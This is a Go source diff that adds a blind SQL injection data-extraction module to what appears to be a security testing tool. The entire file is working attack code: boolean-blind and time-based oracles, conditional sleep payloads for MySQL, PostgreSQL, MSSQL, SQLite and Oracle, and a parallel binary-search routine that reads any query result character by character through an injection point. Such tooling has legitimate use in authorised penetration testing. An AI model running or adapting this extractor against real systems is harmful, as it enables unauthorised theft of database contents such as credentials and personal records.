@@ -0,0 +1,233 @@
+package main
+
+import (
+	"fmt"
+	"strings"
+	"sync"
+	"time"
+)
+
+const (
+	// extractMaxLength bounds extractLength's search so a misbehaving
+	// oracle can't loop forever.
+	extractMaxLength = 4096
+	// extractWorkers is the default bounded worker pool size Extract
+	// uses to read characters in parallel.
+	extractWorkers = 8
+	// extractSleepSeconds is the delay a timeOracle injects per
+	// comparison; kept short since Extract makes many comparisons.
+	extractSleepSeconds = 2
+)
+
+// Oracle answers a single true/false question about the database for an
+// already-confirmed injection point, so Extract can stay agnostic to
+// whether the underlying signal is boolean-blind or time-based.
+type Oracle interface {
+	// Ask reports whether condition (a SQL boolean expression) holds.
+	Ask(condition string) (bool, error)
+}
+
+// booleanOracle answers Oracle questions via the same boolean-blind
+// differential signal testBooleanBased uses to confirm an injection:
+// ctx's AND probe is considered true when the response stays similar to
+// baseline.
+type booleanOracle struct {
+	sqli     *SQLITester
+	tmpl     RequestTemplate
+	ctx      *injectionContext
+	baseline string
+}
+
+// NewBooleanOracle returns an Oracle for an injection point already
+// confirmed boolean-blind via testBooleanBased/inferInjectionContext.
+func (sqli *SQLITester) NewBooleanOracle(tmpl RequestTemplate, ctx *injectionContext, baseline string) Oracle {
+	return &booleanOracle{sqli: sqli, tmpl: tmpl, ctx: ctx, baseline: baseline}
+}
+
+func (o *booleanOracle) Ask(condition string) (bool, error) {
+	response, err := o.sqli.makeRequest(o.tmpl, o.ctx.conditionPayload(condition))
+	if err != nil {
+		return false, err
+	}
+	return responseSimilarity(o.baseline, response) >= similarBaselineThreshold, nil
+}
+
+// timeConditionBuilders renders "sleep only if condition is true" for
+// each DB dialect recognized from a payload's Database field. The
+// SQLite and Oracle forms are best-effort approximations (neither
+// dialect has a portable sleep builtin reachable from a read-only
+// expression context) rather than a guaranteed-correct primitive.
+var timeConditionBuilders = map[string]func(condition string, seconds int) string{
+	"MYSQL": func(condition string, seconds int) string {
+		return fmt.Sprintf("IF(%s,SLEEP(%d),0)", condition, seconds)
+	},
+	"POSTGRESQL": func(condition string, seconds int) string {
+		return fmt.Sprintf("(SELECT CASE WHEN %s THEN pg_sleep(%d) ELSE pg_sleep(0) END)", condition, seconds)
+	},
+	"MSSQL": func(condition string, seconds int) string {
+		return fmt.Sprintf("IF (%s) WAITFOR DELAY '00:00:%02d'", condition, seconds)
+	},
+	"SQLITE": func(condition string, seconds int) string {
+		return fmt.Sprintf("(SELECT CASE WHEN %s THEN (SELECT COUNT(*) FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<%d000000) SELECT x FROM c)) ELSE 0 END)", condition, seconds)
+	},
+	"ORACLE": func(condition string, seconds int) string {
+		return fmt.Sprintf("(CASE WHEN %s THEN DBMS_LOCK.SLEEP(%d) ELSE 0 END)", condition, seconds)
+	},
+}
+
+// timeOracle answers Oracle questions via a time-based signal: it wraps
+// condition in a DB-specific sleep builder and reports true when the
+// response takes at least extractSleepSeconds*timeSleepFraction.
+type timeOracle struct {
+	sqli    *SQLITester
+	tmpl    RequestTemplate
+	ctx     *injectionContext
+	builder func(condition string, seconds int) string
+}
+
+// NewTimeOracle returns an Oracle for an injection point that's only
+// confirmed blind-time-based (no visible boolean differential), using
+// dbType's sleep dialect (MYSQL, POSTGRESQL, MSSQL, SQLITE, or ORACLE).
+func (sqli *SQLITester) NewTimeOracle(tmpl RequestTemplate, ctx *injectionContext, dbType string) (Oracle, error) {
+	builder, ok := timeConditionBuilders[strings.ToUpper(dbType)]
+	if !ok {
+		return nil, fmt.Errorf("extract: no time-based sleep dialect for %q", dbType)
+	}
+	return &timeOracle{sqli: sqli, tmpl: tmpl, ctx: ctx, builder: builder}, nil
+}
+
+func (o *timeOracle) Ask(condition string) (bool, error) {
+	payload := o.ctx.conditionPayload(o.builder(condition, extractSleepSeconds))
+
+	start := time.Now()
+	if _, err := o.sqli.makeRequest(o.tmpl, payload); err != nil {
+		return false, err
+	}
+	duration := time.Since(start)
+
+	minDelay := time.Duration(float64(extractSleepSeconds) * float64(time.Second) * timeSleepFraction)
+	return duration >= minDelay, nil
+}
+
+// substrFunc returns the SUBSTRING dialect for dbType, used to slice a
+// single character out of the target query's result. Defaults to the
+// SQL-standard SUBSTRING for any dbType it doesn't recognize.
+func substrFunc(dbType string) string {
+	switch strings.ToUpper(dbType) {
+	case "SQLITE", "ORACLE":
+		return "SUBSTR"
+	case "POSTGRESQL":
+		return "substr"
+	default:
+		return "SUBSTRING"
+	}
+}
+
+// Extract turns a confirmed Oracle into a data-read primitive: it
+// discovers the length of query's result with exponential-then-binary
+// search, then binary-searches each character's ASCII value (7 requests
+// per character) across a bounded worker pool of extractWorkers goroutines.
+func (sqli *SQLITester) Extract(query string, oracle Oracle, dbType string) (string, error) {
+	length, err := extractLength(oracle, query)
+	if err != nil {
+		return "", fmt.Errorf("extract: discovering length: %w", err)
+	}
+	if length == 0 {
+		return "", nil
+	}
+
+	substr := substrFunc(dbType)
+	chars := make([]byte, length)
+
+	jobs := make(chan int)
+	errs := make(chan error, length)
+
+	var wg sync.WaitGroup
+	for w := 0; w < extractWorkers; w++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for i := range jobs {
+				ascii, err := extractChar(oracle, query, substr, i+1)
+				if err != nil {
+					errs <- err
+					continue
+				}
+				chars[i] = byte(ascii)
+			}
+		}()
+	}
+
+	go func() {
+		for i := 0; i < length; i++ {
+			jobs <- i
+		}
+		close(jobs)
+	}()
+
+	wg.Wait()
+	close(errs)
+	if err, ok := <-errs; ok {
+		return "", fmt.Errorf("extract: reading character: %w", err)
+	}
+
+	return string(chars), nil
+}
+
+// extractLength discovers LENGTH((query)) by exponentially probing
+// powers of two up to extractMaxLength to find an upper bound, then
+// binary-searching within it.
+func extractLength(oracle Oracle, query string) (int, error) {
+	lengthExpr := fmt.Sprintf("(SELECT LENGTH((%s)))", query)
+
+	lo, hi := 0, 1
+	for hi < extractMaxLength {
+		ok, err := oracle.Ask(fmt.Sprintf("%s>%d", lengthExpr, hi))
+		if err != nil {
+			return 0, err
+		}
+		if !ok {
+			break
+		}
+		lo = hi
+		hi *= 2
+	}
+	if hi > extractMaxLength {
+		hi = extractMaxLength
+	}
+
+	for lo < hi {
+		mid := (lo + hi + 1) / 2
+		ok, err := oracle.Ask(fmt.Sprintf("%s>=%d", lengthExpr, mid))
+		if err != nil {
+			return 0, err
+		}
+		if ok {
+			lo = mid
+		} else {
+			hi = mid - 1
+		}
+	}
+	return lo, nil
+}
+
+// extractChar binary-searches the ASCII value (0..127) of the character
+// at 1-based position i in query's result, using log2(128) = 7 requests.
+func extractChar(oracle Oracle, query, substrDialect string, i int) (int, error) {
+	expr := fmt.Sprintf("ASCII(%s((%s),%d,1))", substrDialect, query, i)
+
+	lo, hi := 0, 128
+	for hi-lo > 1 {
+		mid := (lo + hi) / 2
+		ok, err := oracle.Ask(fmt.Sprintf("%s>%d", expr, mid))
+		if err != nil {
+			return 0, err
+		}
+		if ok {
+			lo = mid
+		} else {
+			hi = mid
+		}
+	}
+	return hi, nil
+}